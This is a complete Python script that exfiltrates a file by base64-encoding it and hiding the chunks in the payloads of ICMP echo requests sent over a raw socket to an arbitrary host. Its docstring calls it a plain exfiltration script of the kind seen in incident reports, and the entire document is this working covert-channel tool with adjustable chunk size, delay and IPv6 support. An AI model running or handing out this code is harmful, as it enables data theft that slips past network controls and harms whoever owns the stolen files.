#!/usr/bin/python3
"""Sends a file base64-encoded in ICMP echo requests, one identifier per request (0, 1, 2, ...).

A deliberately plain exfiltration script of the kind seen in incident reports: it writes its own
echo requests on a raw socket and ignores the replies (the receiving kernel echoes each one).
Root only.   b64-exfil.py [-6] [--chunk N] [--delay S] [--first-id N] HOST FILE
"""
import argparse
import base64
import socket
import struct
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("-6", dest="v6", action="store_true")
    ap.add_argument("--chunk", type=int, default=32)
    ap.add_argument("--delay", type=float, default=0.1)
    ap.add_argument("--first-id", type=int, default=0)
    ap.add_argument("host")
    ap.add_argument("file")
    a = ap.parse_args()
    text = base64.b64encode(open(a.file, "rb").read())
    if a.v6:
        s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
        kind = 128  # the kernel fills in the ICMPv6 checksum
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        kind = 8
    for n, off in enumerate(range(0, len(text), a.chunk)):
        data = text[off:off + a.chunk]
        ident = (a.first_id + n) & 0xFFFF
        hdr = struct.pack("!BBHHH", kind, 0, 0, ident, 0)
        if not a.v6:
            hdr = struct.pack("!BBHHH", kind, 0, checksum(hdr + data), ident, 0)
        s.sendto(hdr + data, (a.host, 0))
        time.sleep(a.delay)
    print(f"sent {len(text)} base64 characters of {a.file} in {n + 1} requests")


if __name__ == "__main__":
    main()
